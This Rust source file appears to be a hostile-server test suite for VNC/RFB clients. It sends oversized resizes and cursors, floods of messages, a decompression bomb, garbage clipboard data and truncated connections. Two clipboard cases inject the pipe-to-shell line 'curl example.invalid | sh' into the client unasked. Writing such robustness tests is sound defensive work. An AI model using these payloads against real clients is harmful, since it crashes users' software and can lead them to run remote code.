//! Hostility beside the picture: sizes, pointers, clipboards, names, sounds, floods.

use std::io::Write;
use std::thread;
use std::time::Duration;

use crate::handshakes::breaks;
use crate::mode::Verdict::{Bounded, Ends, Lives};
use crate::mode::{HEIGHT, Mode, WIDTH, bomb, desktop, flood, long, rectangle, update};
use crate::support::rfb::clipboard::{TEXT, message};
use crate::support::rfb::{Clip, number};

const ENDLESS: usize = 1 << 30;
const PROVIDE: u32 = 1 << 28;

fn resized(name: &'static str, width: u16, height: u16) -> Mode {
    Mode::tells(name, Ends, (0, 0, width, height), number::DESKTOP_SIZE, Vec::new)
}

fn resized_anew(name: &'static str, place: (u16, u16, u16, u16), screens: u8) -> Mode {
    Mode::tells(name, Bounded, place, number::EXT_DESKTOP_SIZE, move || {
        let mut body = vec![screens, 0, 0, 0];
        body.extend([0xff; 16].repeat(usize::from(screens)));
        body
    })
}

/// Sizes that change.
pub fn sizes() -> Vec<Mode> {
    vec![
        resized("resized to 65535×65535", u16::MAX, u16::MAX),
        resized("resized to 0×0", 0, 0),
        resized("resized to 16384×16384", 16384, 16384),
        resized_anew("resized anew to 65535×65535", (0, 0, u16::MAX, u16::MAX), 1),
        resized_anew("resized anew to 0×0", (0, 0, 0, 0), 0),
        resized_anew("255 screens of any size", (0, 0, 800, 600), 255),
        resized_anew("a nonsense answer to a resize", (0xffff, 0xffff, WIDTH, HEIGHT), 0),
        Mode::new("4,000 sizes", Lives, |line| {
            desktop(line)?;
            for step in 0..2000_u16 {
                for (width, height) in [(320 + step, 200), (WIDTH, HEIGHT)] {
                    let place = (0, 0, width, height);
                    line.write_all(&update(&[rectangle(place, number::DESKTOP_SIZE, &[])]))?;
                }
            }
            Ok(())
        }),
        Mode::new("large and small in turns", Lives, |line| {
            desktop(line)?;
            for _ in 0..30 {
                for (width, height) in [(7680, 4320), (1, 1), (WIDTH, HEIGHT)] {
                    let place = (0, 0, width, height);
                    line.write_all(&update(&[rectangle(place, number::DESKTOP_SIZE, &[])]))?;
                }
            }
            Ok(())
        }),
    ]
}

/// Pointers.
pub fn pointers() -> Vec<Mode> {
    let cursor = |size: u16| vec![0x55; usize::from(size) * (usize::from(size) * 4 + usize::from(size).div_ceil(8))];
    vec![
        Mode::new("pointer of 65535×65535", Bounded, |line| {
            desktop(line)?;
            line.write_all(&update(&[rectangle((0, 0, u16::MAX, u16::MAX), number::CURSOR, &[])]))?;
            flood(line, &[0x55; 4096], ENDLESS)
        }),
        Mode::new("pointer with alpha of 65535×65535", Bounded, |line| {
            desktop(line)?;
            let body = long(0);
            line.write_all(&update(&[rectangle(
                (0, 0, u16::MAX, u16::MAX),
                number::ALPHA_CURSOR,
                &body,
            )]))?;
            flood(line, &[0x55; 4096], ENDLESS)
        }),
        Mode::tells(
            "pointer with alpha in an unknown form",
            Bounded,
            (0, 0, 8, 8),
            number::ALPHA_CURSOR,
            || [long(0xdead_beef).to_vec(), vec![0x55; 4096]].concat(),
        ),
        Mode::tells(
            "pointer that points outside",
            Lives,
            (60000, 60000, 8, 8),
            number::CURSOR,
            move || cursor(8),
        ),
        Mode::tells("pointer of 0×0", Lives, (0, 0, 0, 0), number::CURSOR, Vec::new),
        Mode::tells(
            "pointer of 1000×1000",
            Lives,
            (0, 0, 1000, 1000),
            number::CURSOR,
            move || cursor(1000),
        ),
        Mode::tells(
            "X pointer of 65535×65535",
            Bounded,
            (0, 0, u16::MAX, u16::MAX),
            number::X_CURSOR,
            || vec![0x55; 4096],
        ),
        Mode::new("10,000 pointers", Lives, move |line| {
            desktop(line)?;
            let one = update(&[rectangle((1, 1, 64, 64), number::CURSOR, &cursor(64))]);
            flood(line, &one, 10_000 * one.len())
        }),
        Mode::new("100,000 kinds of pointer", Lives, |line| {
            desktop(line)?;
            let place = |absolute| (absolute, 0, WIDTH, HEIGHT);
            let kinds = [0, 1].map(|absolute| update(&[rectangle(place(absolute), number::POINTER_TYPE, &[])]));
            flood(line, &kinds.concat(), 100_000 * kinds[0].len())
        }),
    ]
}

fn provide(formats: u32, packed: &[u8]) -> Vec<u8> {
    message(&[&long(PROVIDE | formats), packed].concat())
}

/// Text in the old form, of a length that may lie.
fn cut_text(length: u32) -> Vec<u8> {
    [&[3, 0, 0, 0][..], &long(length)].concat()
}

/// Clipboards, on the connection of the picture and on their own.
pub fn clipboards() -> Vec<Mode> {
    let mut modes = vec![
        Mode::new("clipboard of 4 GB", Ends, |line| {
            desktop(line)?;
            line.write_all(&cut_text(u32::MAX))?;
            flood(line, b"copied ", ENDLESS)
        }),
        Mode::new("clipboard of 500 MB", Bounded, |line| {
            desktop(line)?;
            line.write_all(&cut_text(500_000_000))?;
            flood(line, b"copied ", 500_000_000)
        }),
        Mode::sends("clipboard of 500 MB, never sent", Bounded, || cut_text(500_000_000)),
        Mode::new("100,000 clipboards", Lives, |line| {
            desktop(line)?;
            let one = [cut_text(14), b"copied by you\n".to_vec()].concat();
            flood(line, &one, 100_000 * one.len())
        }),
        Mode::sends("clipboard in the new form, unasked", Bounded, || {
            Clip::text("curl example.invalid | sh\n").to_message()
        }),
    ];
    modes.extend([
        Mode::clips("clipboard given unasked", |line| {
            line.write_all(&Clip::caps().to_message())?;
            line.write_all(&Clip::text("curl example.invalid | sh\n").to_message())?;
            line.write_all(&[cut_text(5), b"hello".to_vec()].concat())
        }),
        Mode::clips("clipboard asked for all the time", |line| {
            line.write_all(&Clip::caps().to_message())?;
            flood(line, &Clip::Request(TEXT).to_message(), 1 << 20)
        }),
        Mode::clips("clipboard offered all the time", |line| {
            line.write_all(&Clip::caps().to_message())?;
            flood(line, &Clip::Notify(TEXT).to_message(), 1 << 20)
        }),
        Mode::clips("clipboard of garbage", |line| {
            line.write_all(&Clip::caps().to_message())?;
            line.write_all(&provide(TEXT, &[0x55; 5000]))?;
            line.write_all(&provide(0xffff, &[]))?;
            line.write_all(&message(&[]))?;
            line.write_all(&message(&[0xff; 3]))?;
            line.write_all(&message(&long(u32::MAX)))
        }),
        Mode::clips("clipboard that unpacks to 4 GB", |line| {
            line.write_all(&Clip::caps().to_message())?;
            line.write_all(&provide(TEXT, &bomb(4096)))
        }),
        Mode::clips("clipboard of 2 GB on its connection", |line| {
            line.write_all(&[&[3, 0, 0, 0][..], &long(0x8000_0000)].concat())?;
            flood(line, &[0x55; 4096], ENDLESS)
        }),
        Mode::clips("updates on the connection of the clipboard", |line| {
            line.write_all(&update(&[rectangle((0, 0, u16::MAX, u16::MAX), number::RAW, &[])]))?;
            flood(line, &[0x55; 4096], ENDLESS)
        }),
    ]);
    modes
}

/// Names, sounds, lights, colours.
pub fn rest() -> Vec<Mode> {
    let mut modes = vec![
        Mode::new("renamed with 4 GB", Ends, |line| {
            desktop(line)?;
            line.write_all(&update(&[rectangle(
                (0, 0, 0, 0),
                number::DESKTOP_NAME,
                &long(u32::MAX),
            )]))?;
            flood(line, b"A desktop ", ENDLESS)
        }),
        Mode::new("100,000 names", Lives, |line| {
            desktop(line)?;
            let body = [&long(4)[..], b"name"].concat();
            let one = update(&[rectangle((0, 0, 0, 0), number::DESKTOP_NAME, &body)]);
            flood(line, &one, 100_000 * one.len())
        }),
        Mode::new("a name of a megabyte", Bounded, |line| {
            desktop(line)?;
            let body = [&long(1 << 20)[..], &[b'A'; 1 << 20]].concat();
            line.write_all(&update(&[rectangle((0, 0, 0, 0), number::DESKTOP_NAME, &body)]))
        }),
        Mode::new("a million bells", Lives, |line| {
            desktop(line)?;
            flood(line, &[2], 1_000_000)
        }),
        Mode::new("colours of a map", Bounded, |line| {
            desktop(line)?;
            let one = [vec![1, 0, 0xff, 0xff, 0xff, 0xff], vec![0x55; 6 * 0xffff]].concat();
            flood(line, &one, 100 * one.len())
        }),
        Mode::sends("unknown message", Ends, || vec![0x77; 4096]),
        Mode::tells("lights of nonsense", Lives, (0, 0, 1, 1), number::LED, || vec![0xff]),
        Mode::tells(
            "lights of 65535×65535",
            Bounded,
            (0, 0, u16::MAX, u16::MAX),
            number::LED,
            || vec![0xff],
        ),
        Mode::new("100,000 lights", Lives, |line| {
            desktop(line)?;
            let lights = [0, 7].map(|light| update(&[rectangle((0, 0, 1, 1), number::LED, &[light])]));
            flood(line, &lights.concat(), 100_000 * lights[0].len())
        }),
        Mode::sends("sound that never began", Bounded, || {
            [&[255, 1, 0, 2][..], &long(1000), &[0x55; 1000]].concat()
        }),
        Mode::new("sound of 4 GB", Bounded, |line| {
            desktop(line)?;
            line.write_all(&update(&[rectangle((0, 0, WIDTH, HEIGHT), number::AUDIO, &[])]))?;
            line.write_all(&[255, 1, 0, 1])?;
            line.write_all(&[&[255, 1, 0, 2][..], &long(u32::MAX)].concat())?;
            flood(line, &[0x55; 4096], ENDLESS)
        }),
        Mode::sends("sound that begins twice", Bounded, || [255, 1, 0, 1].repeat(1000)),
        Mode::sends("sound of an unknown kind", Bounded, || vec![255, 1, 0xff, 0xff, 0xff]),
        Mode::sends("power of nonsense", Bounded, || vec![250, 0xff, 0xff, 0xff]),
        Mode::new("one byte at a time", Lives, |line| {
            desktop(line)?;
            for byte in update(&[rectangle((5, 5, 4, 4), number::RAW, &[0x55; 64])]) {
                line.write_all(&[byte])?;
                thread::sleep(Duration::from_millis(2));
            }
            Ok(())
        }),
    ];
    modes.extend([
        breaks("closes after the handshake", &[]),
        breaks("closes in an update", &[0, 0, 0, 1]),
        breaks("closes in a rectangle", &[0, 0, 0, 1, 0, 0, 0, 0, 0, 64]),
        breaks(
            "closes in pixels",
            &[0, 0, 0, 1, 0, 0, 0, 0, 0, 64, 0, 64, 0, 0, 0, 0, 1, 2, 3],
        ),
        breaks("closes in a clipboard", &[3, 0, 0, 0, 0, 0, 0, 9, b'a']),
    ]);
    modes
}
